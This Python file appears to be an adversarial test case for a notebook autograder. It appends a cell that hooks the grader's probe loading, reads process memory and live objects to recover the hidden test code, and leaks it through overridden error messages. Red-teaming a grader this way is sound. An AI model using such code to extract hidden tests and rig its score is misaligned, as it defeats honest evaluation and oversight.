"""Tries to copy the hidden probes (tests/<id>/probes.py) into its feedback. In the grader's worker it
wraps the probe loading (course.judge.worker.Worker.add_probes) to keep whatever arrives, searches its own
memory for the probe file's text, and falls back to the strings and names in the loaded probe
functions, padded with anything else it can see. It lifts the worker's 600-character cap on error
messages, and answers every check with an error carrying the next 1,800 characters of what it found."""
EXPECT_TOTAL = 0
BASE = "release"
ATTACK = r'''
import gc, re, sys
_w = sys.modules.get("course.judge.worker")
if _w is not None:
    _found = []

    def _strings(code, seen):
        if id(code) in seen:
            return
        seen.add(id(code))
        for c in code.co_consts:
            if isinstance(c, str):
                _found.append(c)
            elif hasattr(c, "co_consts"):
                _strings(c, seen)
        _found.extend(code.co_names)

    _old_add = _w.Worker.add_probes

    def _keep(self, name, *args):
        _found.extend(a.decode("latin-1") if isinstance(a, bytes) else str(a) for a in args)
        return _old_add(self, name, *args)

    _w.Worker.add_probes = _keep  # in time only if the probes arrive after this cell has run

    def _memory():
        hits = []
        try:
            maps = open("/proc/self/maps").read().splitlines()
            mem = open("/proc/self/mem", "rb", 0)
        except OSError:
            return hits
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > 1 << 28:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            for m in re.finditer(rb"from course\.probelib import|\ndef [a-z_]+\(ns", data):
                hits.append(data[max(0, m.start() - 200):m.start() + 4000].decode("latin-1"))
                if len(hits) > 20:
                    return hits
        return hits

    _found.extend(_memory())
    for _obj in gc.get_objects():
        if type(_obj).__name__ == "Worker" and isinstance(getattr(_obj, "probes", None), dict):
            for _mod in _obj.probes.values():
                for _fn in vars(_mod).values():
                    if hasattr(_fn, "__code__"):
                        _strings(_fn.__code__, set())
    _found.append("\n".join(sorted(sys.modules)))
    _state = {"at": 0}

    def _leak(self, module, probe, kwargs):
        text = "\n".join(_found)
        at = _state["at"] % max(1, len(text))
        _state["at"] = at + 1800
        raise ValueError(f"LEAK {at}: " + text[at:at + 1800])

    _w.Worker.call = _leak
    _w.describe = lambda exc: {"type": type(exc).__name__, "message": str(exc), "trace": ""}
'''


def mutate(nb):
    import nbformat
    nb.cells.append(nbformat.v4.new_code_cell(ATTACK))
